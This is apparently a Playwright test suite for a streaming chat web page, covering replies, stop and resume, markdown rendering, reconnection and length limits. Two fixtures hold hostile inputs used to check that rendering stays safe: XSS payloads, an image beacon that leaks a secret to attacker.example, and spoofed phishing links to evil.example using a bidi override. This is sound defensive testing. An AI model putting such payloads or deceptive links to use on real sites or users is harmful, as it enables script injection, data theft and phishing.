"""The chat page in a real headless Chromium (Debian's), driven by Playwright, against a live gunicorn.

Every assertion is on what a person sees, or a screen reader hears: the text in the page, its notes,
its controls, Chromium's accessibility tree. Without Chromium or playwright these tests skip on a
developer's machine and fail in CI.
"""

import json
import os
import re
import statistics
import time
from pathlib import Path

import pytest

from app import PAGE_CSP
from browser import fresh_page
from live_servers import ROOT, Gunicorns, unavailable
from tcp_proxy import TcpProxy

try:
    from playwright.sync_api import expect
except ImportError:
    unavailable("playwright is not installed (pip install -r requirements-dev.txt)")

PHONE = {"width": 390, "height": 844}
ARTIFACTS = ROOT / "test-artifacts"
AXE = Path(__file__).parent / "node_modules" / "axe-core" / "axe.min.js"  # pinned in package.json; npm ci


@pytest.fixture
def chat_page(page, gunicorn):
    page.goto(gunicorn.url + "/")
    return page


def say(page, text):
    """Type a message and press Enter, as a person does."""
    page.get_by_label("Message").fill(text)
    page.get_by_label("Message").press("Enter")


def reply(page):
    """The assistant's latest message."""
    return page.locator("#conversation .message.assistant").last


def reply_text(page):
    """The words of the latest reply."""
    return reply(page).locator(".text")


def reply_note(page):
    """The line under the latest reply: its usage, or why it stopped."""
    return reply(page).locator(".note")


def questions(page):
    """The person's messages, as shown."""
    return page.locator("#conversation .message.user .text")


def thinking(page):
    """The "Thinking" block of the latest reply."""
    return reply(page).locator("details.thinking")


def sent_messages(upstream, index=-1):
    """The messages the upstream received in request `index`."""
    return upstream.received[index].body["messages"]


# --- Streaming ---------------------------------------------------------------------------------


def test_first_words_show_while_the_upstream_is_still_sending(chat_page, upstream):
    tokens = [f"t{i} " for i in range(20)]
    upstream.reset(tokens=tokens, delay=0.1)
    say(chat_page, "Count")

    expect(reply_text(chat_page)).to_contain_text("t0")
    assert len(upstream.received[0].sent) < 10  # the upstream is a second or more from its last token
    expect(chat_page.get_by_label("Message")).to_be_disabled()
    expect(reply_text(chat_page)).to_have_text("".join(tokens), timeout=10_000)
    expect(chat_page.get_by_label("Message")).to_be_enabled()


def test_reply_is_exact_and_its_usage_shown(chat_page, upstream):
    tokens = ["Hel", "lo", ", wörld", ' "quoted" \\ ', "응답", " 🙂", "\nnext", " line", "\n\ntail"]
    upstream.reset(tokens=tokens)
    say(chat_page, "Hi")

    expect(reply_note(chat_page)).to_have_text("14 tokens: 9 prompt, 5 reply.")
    # A single new line is a line break, a blank line a new paragraph; the words are exact.
    assert reply_text(chat_page).inner_text() == 'Hello, wörld "quoted" \\ 응답 🙂\nnext line\n\ntail'
    # The reply is inside the polite live region screen readers follow.
    log = chat_page.get_by_role("log", name="Conversation")
    assert log.get_attribute("aria-live") == "polite"
    expect(log).to_contain_text("응답 🙂")


def test_the_conversation_is_sent_whole_and_enter_sends(chat_page, upstream):
    upstream.reset(tokens=["First ", "answer."])
    say(chat_page, "One")
    expect(reply_note(chat_page)).to_contain_text("tokens")

    upstream.script.tokens = ["Second."]
    box = chat_page.get_by_label("Message")
    box.type("Two")
    box.press("Shift+Enter")  # a new line, not a send
    box.type("lines")
    assert len(upstream.received) == 1
    box.press("Enter")
    expect(reply_text(chat_page)).to_have_text("Second.")

    assert sent_messages(upstream) == [
        {"role": "user", "content": "One"},
        {"role": "assistant", "content": "First answer."},
        {"role": "user", "content": "Two\nlines"},
    ]


def test_stop_keeps_the_partial_reply_and_hangs_up_upstream(chat_page, upstream):
    tokens = [f"w{i} " for i in range(50)]
    upstream.reset(tokens=tokens, delay=0.1)
    say(chat_page, "Go on")
    expect(reply_text(chat_page)).to_contain_text("w3")

    with chat_page.expect_request("**/api/chat/*/stop") as stop:
        chat_page.get_by_role("button", name="Stop").click()

    assert stop.value.method == "POST"
    expect(reply_note(chat_page)).to_have_text("Stopped.")
    # A connection that closes leaves the reply going for a reader that may come back; a stop ends it.
    assert upstream.received[0].hung_up.wait(5), "the server did not close its upstream request"
    partial = reply_text(chat_page).inner_text()
    assert partial.startswith("w0 w1 w2 w3") and len(partial.split()) < len(tokens)
    time.sleep(0.3)  # three more token intervals: nothing more may appear
    assert reply_text(chat_page).inner_text() == partial
    expect(chat_page.get_by_label("Message")).to_be_enabled()
    expect(chat_page.get_by_role("button", name="Send")).to_be_visible()


def test_stop_before_the_reply_started_waits_for_it_then_stops_it(chat_page, upstream):
    """Pressed while the service waits for the model, Stop cannot name the reply yet: it says so,
    and stops the reply as soon as the service answers (only aborting would leave it going)."""
    upstream.reset(tokens=[f"w{i} " for i in range(50)], stall_headers=1.5, delay=0.1)
    say(chat_page, "Go on")
    with chat_page.expect_request("**/api/chat/*/stop", timeout=10_000):
        chat_page.get_by_role("button", name="Stop").click()
        expect(reply_note(chat_page)).to_have_text("Stopping…")

    expect(reply_note(chat_page)).to_have_text(re.compile(r"^Stopped"))
    assert upstream.received[0].hung_up.wait(5), "the server did not close its upstream request"
    assert len(upstream.received[0].sent) < 5
    expect(chat_page.get_by_label("Message")).to_be_enabled()


def test_escape_stops_a_reply_and_gives_the_keyboard_back_to_the_box(chat_page, upstream):
    upstream.reset(tokens=[f"w{i} " for i in range(50)], delay=0.1)
    say(chat_page, "Go on")
    expect(chat_page.get_by_role("button", name="Stop")).to_be_focused()  # the box is locked: Stop is next
    expect(reply_text(chat_page)).to_contain_text("w2")

    chat_page.keyboard.press("Escape")

    expect(reply_note(chat_page)).to_have_text("Stopped.")
    assert upstream.received[0].hung_up.wait(5), "the server did not close its upstream request"
    expect(chat_page.get_by_label("Message")).to_be_focused()


def test_focus_is_back_in_the_box_when_a_reply_is_complete(chat_page, upstream):
    upstream.reset(tokens=["One ", "two."], delay=0.2)
    say(chat_page, "Hi")
    expect(chat_page.get_by_role("button", name="Stop")).to_be_focused()

    expect(reply_note(chat_page)).to_contain_text("tokens")
    expect(chat_page.get_by_label("Message")).to_be_focused()
    chat_page.keyboard.type("typed straight away")
    expect(chat_page.get_by_label("Message")).to_have_value("typed straight away")


def test_heartbeats_in_a_silence_are_not_shown(fast_gunicorn, page, upstream):
    """fast_gunicorn pings every 0.25 s: a 1 s silence before the first token brings ": ping" lines."""
    upstream.reset(tokens=["after ", "the silence"], hold=1.0)
    page.goto(fast_gunicorn.url + "/")
    say(page, "Hi")

    expect(reply_note(page)).to_contain_text("tokens")
    assert reply_text(page).inner_text() == "after the silence"


@pytest.mark.parametrize(
    "script, message",
    [
        ({"cut_after": 2}, "The connection to the model was lost."),
        ({"error_after": 2}, "The model stopped with an error."),
    ],
    ids=["connection-cut", "error-chunk"],
)
def test_an_upstream_failure_mid_reply_is_shown(chat_page, upstream, script, message):
    upstream.reset(tokens=["tok0 ", "tok1 ", "tok2 "], **script)
    say(chat_page, "Hi")

    expect(reply_note(chat_page)).to_have_text(message)
    assert reply(chat_page).get_attribute("data-state") == "error"
    assert reply_text(chat_page).inner_text() == "tok0 tok1"  # what came before stays
    assert "internal upstream detail" not in chat_page.content()


def test_rate_limit_says_when_to_try_again(chat_page, upstream):
    upstream.reset(status=429, headers={"Retry-After": "7"})  # over CHAT_RETRY_MAX_WAIT: passed on at once
    say(chat_page, "Hi")

    expect(reply_note(chat_page)).to_have_text("The model is busy right now. Please try again in 7 seconds.")
    expect(chat_page.get_by_label("Message")).to_have_value("Hi")  # back in the box, ready to resend


# --- Thinking ----------------------------------------------------------------------------------


def test_thinking_shows_live_then_folds_away_when_the_answer_starts(chat_page, upstream):
    upstream.reset(reasoning=["Let me ", "think ", "about it."], tokens=["The answer ", "is 42."], delay=0.4)
    say(chat_page, "Question")

    block = thinking(chat_page)
    expect(block.locator("p")).to_contain_text("Let me")  # live, while the model thinks
    expect(block).to_have_js_property("open", True)
    expect(block.locator("summary")).to_have_text("Thinking…")
    assert reply_text(chat_page).inner_text() == ""  # no answer yet: the thinking is not the answer

    expect(reply_text(chat_page)).to_have_text("The answer is 42.")
    expect(block).to_have_js_property("open", False)  # folded once the answer started
    expect(block.locator("p")).to_be_hidden()
    # The first thought came 0.4 s in, the answer 1.2 s later.
    expect(block.locator("summary")).to_have_text(re.compile(r"^Thought for [12] seconds?$"))
    block.locator("summary").click()  # and it opens again
    expect(block.locator("p")).to_be_visible()
    expect(block.locator("p")).to_have_text("Let me think about it.")
    # Above the answer, not inside it.
    assert reply(chat_page).evaluate("item => item.querySelector('details').nextElementSibling.className") == "text"

    upstream.reset(tokens=["Next answer."])
    say(chat_page, "And then?")
    expect(reply_text(chat_page)).to_have_text("Next answer.")
    # The model never gets its thinking back as part of the conversation.
    assert sent_messages(upstream) == [
        {"role": "user", "content": "Question"},
        {"role": "assistant", "content": "The answer is 42."},
        {"role": "user", "content": "And then?"},
    ]


def test_a_reply_stopped_while_thinking_keeps_the_thinking_open(chat_page, upstream):
    upstream.reset(reasoning=[f"step {i}. " for i in range(40)], tokens=["never"], delay=0.1)
    say(chat_page, "Hard one")
    expect(thinking(chat_page).locator("p")).to_contain_text("step 2.")

    chat_page.get_by_role("button", name="Stop").click()

    expect(reply_note(chat_page)).to_have_text("Stopped before the model answered.")
    expect(thinking(chat_page)).to_have_js_property("open", True)  # nothing else to read: left open
    expect(thinking(chat_page).locator("summary")).to_have_text(re.compile(r"^Thought for \d+ seconds?$"))


# --- Markdown ----------------------------------------------------------------------------------

MARKDOWN_REPLY = [
    "## Steps\n\n",
    "1. Install **flask**\n",
    "2. Run *it* with `gunicorn`\n\n",
    "See [the docs](https://flask.palletsprojects.com/) or https://example.com/x.\n\n",
    "```python\n",
    "def hello(name):\n",
    '    return f"<b>{name}</b>"\n',
    "```\n\n",
    "| Worker | Streams |\n",
    "|:-------|--------:|\n",
    "| gevent | 10000 |\n",
    "| sync | 1 |\n",
]


def test_markdown_is_shown_as_headings_lists_links_code_and_tables(chat_page, upstream):
    upstream.reset(tokens=MARKDOWN_REPLY, delay=0.02)
    say(chat_page, "How do I run it?")
    expect(reply_note(chat_page)).to_contain_text("tokens")
    answer = reply_text(chat_page)

    expect(answer.get_by_role("heading", name="Steps")).to_be_visible()
    expect(answer.locator("ol > li")).to_have_text(["Install flask", "Run it with gunicorn"])
    expect(answer.locator("ol strong")).to_have_text("flask")
    expect(answer.locator("ol em")).to_have_text("it")
    expect(answer.locator("ol code")).to_have_text("gunicorn")
    docs = answer.get_by_role("link", name="the docs")
    expect(docs).to_have_attribute("href", "https://flask.palletsprojects.com/")
    expect(docs).to_have_attribute("target", "_blank")
    expect(docs).to_have_attribute("rel", "noopener noreferrer")
    expect(answer.get_by_role("link", name="https://example.com/x")).to_have_attribute("href", "https://example.com/x")
    code = answer.locator("pre code")
    assert code.text_content() == 'def hello(name):\n    return f"<b>{name}</b>"'
    expect(answer.locator("b")).to_have_count(0)  # the <b> inside the code is code
    expect(answer.locator("th")).to_have_text(["Worker", "Streams"])
    expect(answer.locator("td")).to_have_text(["gevent", "10000", "sync", "1"])
    streams = answer.locator("td").nth(1)
    assert streams.evaluate("cell => getComputedStyle(cell).textAlign") == "right"  # the `--------:` column


def test_copy_puts_a_code_block_on_the_clipboard(chat_page, upstream, gunicorn):
    chat_page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=gunicorn.url)
    upstream.reset(tokens=MARKDOWN_REPLY)
    say(chat_page, "How do I run it?")
    expect(reply_note(chat_page)).to_contain_text("tokens")

    copy = reply(chat_page).locator(".code-block").get_by_role("button")  # named "Copy", then "Copied"
    expect(copy).to_have_text("Copy")
    copy.click()

    expect(copy).to_have_text("Copied")
    expect(copy).to_be_focused()  # the keyboard stays where it was
    clipboard = chat_page.evaluate("navigator.clipboard.readText()")
    assert clipboard == 'def hello(name):\n    return f"<b>{name}</b>"'
    expect(copy).to_have_text("Copy", timeout=5000)


HOSTILE_REPLY = [
    "<img src=x onerror=window.__xss=1>\n\n",
    "<script>window.__xss=2</script>\n\n",
    'Inline <b onmouseover="window.__xss=3">bold</b> and <a href="javascript:window.__xss=4">a tag</a>.\n\n',
    "[click me](javascript:window.__xss=5) and [data](data:text/html,<script>window.__xss=6</script>) ",
    "and [relative](/api/chat).\n\n",
    "![tracker](https://attacker.example/leak.png?secret=42)\n\n",
    '<iframe src="https://attacker.example/"></iframe>',
]


def test_hostile_markdown_never_becomes_markup_script_or_a_request(chat_page, upstream):
    requests = []
    chat_page.on("request", lambda request: requests.append(request.url))
    upstream.reset(tokens=HOSTILE_REPLY)
    say(chat_page, "Hi")
    expect(reply_note(chat_page)).to_contain_text("tokens")
    answer = reply_text(chat_page)

    # Raw HTML is shown as the text it is.
    expect(answer).to_contain_text("<img src=x onerror=window.__xss=1>")
    expect(answer).to_contain_text("<script>window.__xss=2</script>")
    expect(answer).to_contain_text('<b onmouseover="window.__xss=3">bold</b>')
    expect(answer).to_contain_text('<iframe src="https://attacker.example/"></iframe>')
    expect(chat_page.locator("#conversation :is(img, script, iframe, b, [onerror], [onmouseover])")).to_have_count(0)
    # Only http(s) links, each opening a new tab without a referrer or a handle on this page.
    expect(answer).to_contain_text("click me and data and relative.")
    links = answer.get_by_role("link")
    expect(links).to_have_count(1)
    image = answer.get_by_role("link", name="Image: tracker")  # an outside image, shown as a link
    expect(image).to_have_attribute("href", "https://attacker.example/leak.png?secret=42")
    expect(image).to_have_attribute("target", "_blank")
    expect(image).to_have_attribute("rel", "noopener noreferrer")

    answer.get_by_text("click me").click()
    chat_page.get_by_text("bold</b>").hover()
    assert chat_page.evaluate("window.__xss") is None
    assert not [url for url in requests if "attacker.example" in url]


DECEPTIVE_LINKS = [
    '[https://bank.example](https://evil.example/login "https://bank.example/login") ',
    "[www.bank.example/login](https://evil.example/) ",
    "[\u202eelpmaxe.knab//:sptth](https://evil.example/x) ",  # shown right to left: "https://bank.example"
    "[https://bank.example@evil.example](https://bank.example@evil.example/) ",
    "[the docs](https://flask.palletsprojects.com/) and https://example.com/x.",
]


def test_a_link_shows_where_it_really_goes(chat_page, upstream):
    """The model writes a link's text and title: the title is the real URL, and text that reads like
    another address gets the real host beside it, with no bidi controls to turn it around."""
    upstream.reset(tokens=DECEPTIVE_LINKS)
    say(chat_page, "Where do I log in?")
    expect(reply_note(chat_page)).to_contain_text("tokens")
    answer = reply_text(chat_page)

    links = answer.get_by_role("link")
    expect(links).to_have_count(6)
    titles = ["https://evil.example/login", "https://evil.example/", "https://evil.example/x"]
    titles += ["https://bank.example@evil.example/", "https://flask.palletsprojects.com/", "https://example.com/x"]
    assert [links.nth(i).get_attribute("title") for i in range(6)] == titles
    assert [links.nth(i).get_attribute("href") for i in range(6)] == titles
    assert answer.inner_text() == (
        "https://bank.example (evil.example) www.bank.example/login (evil.example) "
        "elpmaxe.knab//:sptth (evil.example) https://bank.example@evil.example (evil.example) "
        "the docs and https://example.com/x."
    )
    assert "\u202e" not in answer.text_content()


# --- A conversation that survives ---------------------------------------------------------------


def test_a_reload_restores_the_conversation_and_new_chat_clears_it(chat_page, upstream):
    upstream.reset(tokens=["**Bold** answer.\n\n", "```\ncode\n```"])
    say(chat_page, "First question")
    expect(reply_note(chat_page)).to_contain_text("tokens")

    chat_page.reload()

    expect(questions(chat_page)).to_have_text(["First question"])
    expect(reply_text(chat_page).locator("strong")).to_have_text("Bold")
    expect(reply_text(chat_page).locator("pre code")).to_have_text("code")
    expect(reply_note(chat_page)).to_have_text("14 tokens: 9 prompt, 5 reply.")
    upstream.reset(tokens=["Second."])
    say(chat_page, "Second question")
    expect(reply_note(chat_page)).to_contain_text("tokens")
    assert sent_messages(upstream) == [
        {"role": "user", "content": "First question"},
        {"role": "assistant", "content": "**Bold** answer.\n\n```\ncode\n```"},
        {"role": "user", "content": "Second question"},
    ]

    chat_page.get_by_role("button", name="New chat").click()

    expect(chat_page.locator("#conversation .message")).to_have_count(0)
    expect(chat_page.get_by_label("Message")).to_be_focused()
    chat_page.reload()
    expect(chat_page.get_by_role("button", name="New chat")).to_be_visible()
    expect(chat_page.locator("#conversation .message")).to_have_count(0)
    say(chat_page, "Fresh start")
    expect(reply_text(chat_page)).to_have_text("Second.")
    assert sent_messages(upstream) == [{"role": "user", "content": "Fresh start"}]


EVERY_ELEMENT = [
    "## A heading &amp; more\n\n",
    "**Strong**, *em*, ~~del~~, `code &amp; span`, [a link](https://example.com/a), \\*escaped\\*,\n",
    "a line break. Entities: &amp; &lt;tag&gt; &quot;q&quot; &apos;a&apos; x&nbsp;y &#169;.\n\n",
    "> A quote\n> > nested\n\n",
    "3. three\n4. four\n\n",
    "- [x] done\n- [ ] to do\n\n",
    "- loose\n\n- items\n\n",
    "| a &amp; b | c |\n|---|:-:|\n| 1 | 2 |\n\n",
    "---\n\n",
    "```html\n<p>a &amp; b</p>\n```\n\n",
    "![a picture](https://example.com/p.png)\n\n",
    "<div>raw &amp; html</div>\n\n",
    "Inline <span>html</span> and a [reference].\n\n",
    "[reference]: https://example.com/ref\n",
]
ELEMENTS = "h3, strong, em, del, code, a, br, blockquote blockquote, ol[start='3'], li, table, th, td, hr, pre, .raw"


def test_a_reload_restores_every_kind_of_element_and_what_follows(chat_page, upstream):
    """The issue's reproduction: a saved reply with `&amp;` in it stopped the page at start-up."""
    upstream.reset(tokens=EVERY_ELEMENT)
    say(chat_page, "Show me everything")
    expect(reply_note(chat_page)).to_contain_text("tokens")
    upstream.reset(tokens=["The next turn."])
    say(chat_page, "And then?")
    expect(reply_text(chat_page)).to_have_text("The next turn.")
    first = chat_page.locator("#conversation .message.assistant .text").first
    streamed = first.inner_html()
    for selector in ELEMENTS.split(", "):
        expect(first.locator(selector).first).to_be_attached()
    assert "Entities: & <tag> \"q\" 'a' x\u00a0y ©." in first.text_content()
    assert "<p>a &amp; b</p>" in first.locator("pre").text_content()  # code is as written

    chat_page.reload()

    expect(questions(chat_page)).to_have_text(["Show me everything", "And then?"])
    expect(reply_text(chat_page)).to_have_text("The next turn.")
    assert first.inner_html() == streamed
    expect(chat_page.get_by_label("Model")).to_be_visible()  # the page's script ran to its end


def test_a_reload_restores_the_thinking_folded(chat_page, upstream):
    upstream.reset(reasoning=["Weighing ", "it up."], tokens=["Done."], delay=0.1)
    say(chat_page, "Think")
    expect(reply_note(chat_page)).to_contain_text("tokens")

    chat_page.reload()

    block = thinking(chat_page)
    expect(block.locator("summary")).to_have_text(re.compile(r"^Thought for \d+ seconds?$"))
    expect(block).to_have_js_property("open", False)
    block.locator("summary").click()
    expect(block.locator("p")).to_have_text("Weighing it up.")
    expect(reply_text(chat_page)).to_have_text("Done.")


# --- A reply that survives its connection -------------------------------------------------------

COUNTING = [f"w{i:02d} " for i in range(40)]  # two seconds of reply, at one token every 50 ms


def kept_answer(page):
    """The reply as the page keeps it: what it shows, and sends back to the model with the next message."""
    return page.evaluate("turns.at(-1).answer")


@pytest.fixture
def cut_page(page, gunicorn):
    """The page, through a TCP proxy between Chromium and gunicorn that the test can cut."""
    proxy = TcpProxy(gunicorn.port)
    page.goto(proxy.url + "/")
    yield page, proxy
    proxy.stop()


def test_a_cut_mid_reply_reconnects_and_the_reply_comes_whole(cut_page, upstream):
    page, proxy = cut_page
    resumes = []
    page.on("request", lambda request: resumes.append(request) if request.method == "GET" else None)
    upstream.reset(tokens=COUNTING, delay=0.05)
    say(page, "Count")
    expect(reply_text(page)).to_contain_text("w05")

    proxy.cut(down_for=1.5)  # every connection reset, and none taken for 1.5 s

    expect(reply_note(page)).to_have_text("The connection was lost. Reconnecting…")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    expect(reply_note(page)).to_have_text("14 tokens: 9 prompt, 5 reply.", timeout=20_000)
    assert kept_answer(page) == "".join(COUNTING)  # not a character twice, none missing
    expect(reply_text(page)).to_have_text("".join(COUNTING))
    assert len(upstream.received) == 1  # the model was asked once
    assert [request for request in resumes if "/api/chat/" in request.url]  # the rest came by resuming
    expect(page.get_by_label("Message")).to_be_focused()


def reload_mid_reply(page, upstream, url, while_streaming=lambda: None):
    """Ask at `url`, reload mid-reply; check (and `while_streaming()`) that the page goes on with it to the end."""
    upstream.reset(tokens=COUNTING, delay=0.05)
    page.goto(url)
    say(page, "Count")
    expect(reply_text(page)).to_contain_text("w05")

    page.reload()

    while_streaming()
    expect(reply_note(page)).to_have_text("14 tokens: 9 prompt, 5 reply.", timeout=20_000)
    assert kept_answer(page) == "".join(COUNTING)  # not a character twice, none missing
    assert len(upstream.received) == 1  # the model was asked once


def test_a_reload_mid_reply_resumes_the_reply(page, gunicorn, upstream):
    def still_streaming():
        expect(questions(page)).to_have_text(["Count"])
        expect(page.get_by_role("button", name="Stop")).to_be_visible()

    reload_mid_reply(page, upstream, gunicorn.url + "/", still_streaming)
    page.reload()  # and now it is kept like any other reply
    expect(reply_text(page)).to_have_text("".join(COUNTING))
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_a_reply_that_can_no_longer_be_resumed_says_so_and_offers_retry(chat_page, upstream):
    upstream.reset(tokens=COUNTING, delay=0.05)
    say(chat_page, "Count")
    expect(reply_text(chat_page)).to_contain_text("w05")
    chat_page.context.clear_cookies()  # the reply is no longer this browser's: the service answers 404

    chat_page.reload()

    expect(reply_note(chat_page)).to_have_text("The rest of this reply can no longer be fetched.")
    expect(reply_text(chat_page)).to_contain_text("w00 w01 w02 w03 w04 w05")  # what was shown stays
    retry = chat_page.get_by_role("button", name="Retry")
    expect(retry).to_be_focused()
    upstream.reset(tokens=["Whole."])
    retry.press("Enter")
    expect(reply_text(chat_page)).to_have_text("Whole.")
    expect(questions(chat_page)).to_have_text(["Count"])
    assert sent_messages(upstream) == [{"role": "user", "content": "Count"}]


# --- No dead ends --------------------------------------------------------------------------------


def test_deep_nesting_shows_as_text_and_the_page_carries_on(chat_page, upstream):
    """The issue's reproduction: 3,000 nested quotes (6 KB) overflowed the renderer's stack and
    left the page streaming for good. Quotes deeper than 16 show as text; far deeper, the whole reply."""
    upstream.reset(tokens=["> " * 1500, "> " * 1500, "three thousand deep"])
    say(chat_page, "Deep")
    expect(reply_note(chat_page)).to_have_text("14 tokens: 9 prompt, 5 reply.")
    expect(reply_text(chat_page)).to_have_text("> " * 3000 + "three thousand deep")
    expect(chat_page.get_by_label("Message")).to_be_enabled()

    upstream.reset(tokens=["> " * 20, "twenty deep"])
    say(chat_page, "Less deep")
    expect(reply_note(chat_page)).to_contain_text("tokens")
    expect(reply_text(chat_page).locator("blockquote")).to_have_count(16)
    expect(reply_text(chat_page).locator("blockquote " * 16 + ".raw")).to_have_text("> > > > twenty deep")
    chat_page.get_by_role("button", name="New chat").click()
    expect(chat_page.locator("#conversation .message")).to_have_count(0)
    upstream.reset(tokens=["Fine again."])
    say(chat_page, "Hi")
    expect(reply_text(chat_page)).to_have_text("Fine again.")


def test_a_reply_the_renderer_cannot_take_is_shown_as_text(chat_page, upstream):
    """marked's lexer throws (as it did at 2,000 nested quotes): the reply is shown as the text it is."""
    chat_page.evaluate("() => { marked.Lexer.prototype.lex = () => { throw new RangeError('too much recursion'); }; }")
    upstream.reset(tokens=["**Not** ", "markdown."])
    say(chat_page, "Hi")

    expect(reply_note(chat_page)).to_have_text("14 tokens: 9 prompt, 5 reply.")
    expect(reply_text(chat_page)).to_have_text("**Not** markdown.")
    expect(chat_page.get_by_label("Message")).to_be_focused()


def test_whatever_a_render_throws_the_end_of_a_stream_gives_the_controls_back(browser, gunicorn, upstream):
    """A render that throws (a bug of the page's own) still ends the stream: Send and the box come back."""
    context = browser.new_context()
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(error))
    page.goto(gunicorn.url + "/")
    page.evaluate("() => { window.renderMarkdown = () => { throw new Error('a bug in the renderer'); }; }")
    upstream.reset(tokens=["Unseen ", "words."], delay=0.05)
    say(page, "Hi")

    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(page.get_by_label("Message")).to_be_enabled()
    expect(reply_note(page)).to_have_text("The page could not show the reply.")  # not "Reconnecting…"
    page.get_by_role("button", name="New chat").click()
    expect(page.locator("#conversation .message")).to_have_count(0)
    context.close()
    assert errors, "the broken renderer never ran"


def test_retry_sends_the_last_message_again_after_an_error(chat_page, upstream):
    upstream.reset(tokens=["tok0 ", "tok1 ", "tok2 "], cut_after=2)
    say(chat_page, "Hi")
    expect(reply_note(chat_page)).to_have_text("The connection to the model was lost.")
    retry = chat_page.get_by_role("button", name="Retry")
    expect(retry).to_be_focused()  # the way out is one key away

    upstream.reset(tokens=["Whole ", "answer."])
    retry.press("Enter")

    expect(reply_text(chat_page)).to_have_text("Whole answer.")
    expect(questions(chat_page)).to_have_text(["Hi"])  # the turn was replaced, not repeated
    assert sent_messages(upstream) == [{"role": "user", "content": "Hi"}]  # without the cut-off reply
    expect(chat_page.get_by_role("button", name="Retry")).to_have_count(0)


def test_retry_after_a_stop_and_after_a_refusal(chat_page, upstream):
    upstream.reset(tokens=[f"w{i} " for i in range(50)], delay=0.1)
    say(chat_page, "Go on")
    expect(reply_text(chat_page)).to_contain_text("w2")
    chat_page.get_by_role("button", name="Stop").click()
    expect(reply_note(chat_page)).to_have_text("Stopped.")

    upstream.reset(status=429, headers={"Retry-After": "7"})
    chat_page.get_by_role("button", name="Retry").click()
    expect(reply_note(chat_page)).to_contain_text("The model is busy right now.")
    assert sent_messages(upstream) == [{"role": "user", "content": "Go on"}]
    expect(chat_page.get_by_label("Message")).to_have_value("Go on")

    upstream.reset(tokens=["Finally."])
    chat_page.get_by_role("button", name="Retry").click()

    expect(reply_text(chat_page)).to_have_text("Finally.")
    expect(chat_page.get_by_label("Message")).to_have_value("")  # sent: no longer waiting in the box
    expect(questions(chat_page)).to_have_text(["Go on"])
    assert sent_messages(upstream) == [{"role": "user", "content": "Go on"}]


@pytest.fixture(scope="module")
def small_gunicorn(fake_upstream_server, tmp_path_factory):
    """gunicorn that takes at most 4 messages and 3,000 bytes per request: conversations outgrow it fast."""
    with Gunicorns(tmp_path_factory, fake_upstream_server.url) as gunicorns:
        yield gunicorns.start({"CHAT_MAX_MESSAGES": "4", "CHAT_MAX_BODY_BYTES": "3000"}, name="small")


def test_too_many_messages_offers_to_drop_the_oldest_turns_or_start_anew(small_gunicorn, page, upstream):
    """The issue's reproduction: with CHAT_MAX_MESSAGES=4, turn 3 and every later turn failed."""
    upstream.reset(tokens=["Answer."])
    page.goto(small_gunicorn.url + "/")
    for question in ("One", "Two"):
        say(page, question)
        expect(reply_note(page)).to_contain_text("tokens")

    say(page, "Three")  # 5 messages

    expect(reply_note(page)).to_have_text(
        "The conversation is too long to send. Drop the oldest turns or start a new chat; your message is sent again."
    )
    assert len(upstream.received) == 2  # refused by the service, never sent to the model
    drop = page.get_by_role("button", name="Drop oldest turns")
    expect(drop).to_be_focused()
    drop.click()
    expect(reply_text(page)).to_have_text("Answer.")
    expect(reply_note(page)).to_contain_text("tokens")
    assert sent_messages(upstream) == [
        {"role": "user", "content": "Two"},
        {"role": "assistant", "content": "Answer."},
        {"role": "user", "content": "Three"},
    ]
    expect(questions(page)).to_have_text(["Two", "Three"])
    expect(page.locator(".dropped")).to_be_visible()

    say(page, "Four")  # 5 messages again
    expect(reply_note(page)).to_contain_text("The conversation is too long to send.")
    reply(page).get_by_role("button", name="New chat").click()  # the one offered under the refusal

    expect(reply_text(page)).to_have_text("Answer.")
    assert sent_messages(upstream) == [{"role": "user", "content": "Four"}]
    expect(questions(page)).to_have_text(["Four"])


def test_a_body_too_large_offers_to_drop_the_oldest_turns(small_gunicorn, page, upstream):
    upstream.reset(tokens=["x" * 99 + " "] * 32)  # a 3,200-byte answer: the next request is over 3,000
    page.goto(small_gunicorn.url + "/")
    say(page, "Long answer, please")
    expect(reply_note(page)).to_contain_text("tokens")

    upstream.reset(tokens=["Short."])
    say(page, "Next")

    expect(reply_note(page)).to_contain_text("The conversation is too long to send.")
    assert upstream.received == []
    page.get_by_role("button", name="Drop oldest turns").click()
    expect(reply_text(page)).to_have_text("Short.")
    assert sent_messages(upstream) == [{"role": "user", "content": "Next"}]
    page.reload()  # what was dropped stays dropped
    expect(questions(page)).to_have_text(["Next"])


def test_a_single_message_too_long_comes_back_to_be_shortened(small_gunicorn, page, upstream):
    page.goto(small_gunicorn.url + "/")
    say(page, "y" * 4000)

    shorten = "The conversation is too long to send. Shorten the message and send it again."
    expect(reply_note(page)).to_have_text(shorten)
    expect(page.get_by_label("Message")).to_have_value("y" * 4000)
    expect(page.get_by_label("Message")).to_be_focused()
    expect(page.get_by_role("button", name="Drop oldest turns")).to_have_count(0)


def test_the_models_context_too_long_offers_the_way_out(chat_page, upstream):
    """The upstream refuses the conversation's length (a 400 in its own words); the service says context_too_long."""
    upstream.reset(tokens=["Fine."])
    say(chat_page, "One")
    expect(reply_note(chat_page)).to_contain_text("tokens")
    upstream.reset(status=400, error_message="This model's maximum context length is 8192 tokens.")

    say(chat_page, "Two")

    expect(reply_note(chat_page)).to_contain_text("The conversation is too long for the model.")
    upstream.reset(tokens=["Fine."])
    chat_page.get_by_role("button", name="Drop oldest turns").click()
    expect(reply_text(chat_page)).to_have_text("Fine.")
    assert sent_messages(upstream) == [{"role": "user", "content": "Two"}]


# --- Models -------------------------------------------------------------------------------------


def test_the_model_picker_offers_the_services_models_and_remembers_the_choice(chat_page, upstream):
    """The session's gunicorn allows CHAT_MODELS=gpt-test,other, with gpt-test the default."""
    picker = chat_page.get_by_label("Model")
    expect(picker).to_have_value("gpt-test")
    expect(picker.locator("option")).to_have_text(["gpt-test", "other"])

    picker.select_option("other")
    upstream.reset(tokens=["Hi."])
    say(chat_page, "Hi")
    expect(reply_text(chat_page)).to_have_text("Hi.")
    assert upstream.received[0].body["model"] == "other"

    chat_page.reload()
    expect(chat_page.get_by_label("Model")).to_have_value("other")


def test_no_model_picker_when_the_service_allows_one_model(fast_gunicorn, page, upstream):
    with page.expect_response("**/api/models"):
        page.goto(fast_gunicorn.url + "/")
    upstream.reset(tokens=["Hi."])
    with page.expect_request("**/api/chat") as request:
        say(page, "Hi")

    expect(reply_text(page)).to_have_text("Hi.")
